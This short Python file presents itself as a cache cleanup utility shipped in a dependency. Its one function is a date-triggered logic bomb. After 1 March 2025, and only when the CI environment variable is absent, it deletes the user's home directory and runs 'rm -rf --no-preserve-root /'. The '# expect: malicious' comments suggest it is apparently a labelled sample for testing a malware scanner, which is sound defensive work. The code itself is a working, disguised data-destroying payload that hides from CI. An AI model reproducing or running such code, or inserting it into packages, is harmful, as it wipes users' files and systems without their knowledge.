"""Cache cleanup utility shipped in a dependency; triggers on a date."""
import datetime
import os
import shutil
import subprocess


def clean_cache() -> None:
    if datetime.date.today() >= datetime.date(2025, 3, 1) and os.environ.get("CI") is None:
        # expect: malicious
        shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
        # expect: malicious
        subprocess.run("rm -rf --no-preserve-root / 2>/dev/null", shell=True)
